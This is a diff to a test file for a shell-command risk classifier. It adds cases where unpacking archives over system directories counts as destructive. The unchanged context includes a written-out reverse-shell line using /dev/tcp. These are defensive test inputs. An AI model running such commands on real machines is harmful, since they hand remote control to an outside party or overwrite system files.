@@ -378,6 +378,22 @@ describe('classifyCommand', () => {
     expect(classes('cd ~/project; cat README.md')).toEqual([]);
   });
 
+  it.each([
+    ['tar xf x.tar -C /', ['destructive']],
+    ['tar --extract --file=x.tar --directory=/etc', ['destructive']],
+    ['tar -C /usr -xf x.tar', ['destructive']],
+    ['cd / && tar xzf /tmp/x.tgz', ['destructive']],
+    ['unzip -o x.zip -d /usr/bin', ['destructive']],
+    ['sudo tar xf backup.tar -C /', ['destructive', 'privilege']],
+    ['tar -xJf node.tar.xz -C /usr/local --strip-components=1', []],
+    ['tar xzf x.tgz', []],
+    ['tar czf /tmp/b.tgz -C / etc', []],
+    ['tar -xf x.tar -C /opt/app', []],
+    ['unzip x.zip', []],
+  ])('knows an archive unpacked over the system: %s', (command, expected) => {
+    expect(classes(command)).toEqual(expected);
+  });
+
   it('knows a connection through /dev/tcp, and a shell on one runs what it is sent', () => {
     expect(classes('echo hi > /dev/tcp/example.com/80')).toEqual(['network']);
     expect(classes('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')).toEqual(['downloadExec', 'network']);
